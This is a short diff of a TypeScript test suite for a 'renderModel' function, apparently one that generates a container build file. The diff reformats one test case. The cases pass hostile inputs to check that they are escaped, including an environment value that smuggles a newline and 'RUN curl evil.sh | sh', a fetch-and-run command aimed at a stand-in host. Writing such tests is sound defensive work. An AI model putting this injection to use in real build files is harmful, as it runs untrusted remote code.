@@ -100,7 +100,11 @@ describe('renderModel', () => {
   });
 
   it.each([
-    { name: 'an env value with a newline', change: (plan: ModelPlan) => ({ ...plan, env: [{ name: 'PYTHONPATH', value: '/x\nRUN curl evil.sh | sh' }] }), value: '"/x\\nRUN curl evil.sh | sh"' },
+    {
+      name: 'an env value with a newline',
+      change: (plan: ModelPlan) => ({ ...plan, env: [{ name: 'PYTHONPATH', value: '/x\nRUN curl evil.sh | sh' }] }),
+      value: '"/x\\nRUN curl evil.sh | sh"',
+    },
     { name: 'an env name with a space', change: (plan: ModelPlan) => ({ ...plan, env: [{ name: 'A B', value: '1' }] }), value: '"A B"' },
     { name: 'a base image with a space', change: (plan: ModelPlan) => ({ ...plan, baseImage: 'ubuntu AS x' }), value: '"ubuntu AS x"' },
     { name: 'a config name with a quote', change: (plan: ModelPlan) => ({ ...plan, configName: 'a"b.json' }), value: '"a\\"b.json"' },
